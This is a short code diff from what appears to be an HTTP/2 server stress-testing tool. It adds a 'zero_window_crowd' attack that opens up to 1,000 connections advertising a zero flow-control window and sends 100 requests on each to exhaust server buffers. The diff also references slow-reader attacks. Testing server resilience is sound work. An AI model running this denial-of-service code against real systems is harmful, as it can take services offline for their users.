@@ -189,6 +189,24 @@ def zero_window(target):
         peer.wait_cut()
 
 
+@attack(threads=1, counted=("slow", "buffers"), crowd=True)
+def zero_window_crowd(target):
+    """The same with 100 requests on each of 1,000 connections."""
+    peers = []
+    block = http2.head(target.path)
+    requests = b"".join(
+        frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block) for stream in range(1, 201, 2))
+    try:
+        while not target.over() and len(peers) < 1000:
+            peers.append(Peer2(target, {http2.INITIAL_WINDOW_SIZE: 0}, reads=False))
+            peers[-1].send(requests)
+        for peer in peers:
+            peer.wait_cut()
+    finally:
+        for peer in peers:
+            peer.__exit__()
+
+
 @attack()
 def slow_reader_http2(target):
     """Requests without end whose answers are not read; the socket takes 4 KB."""
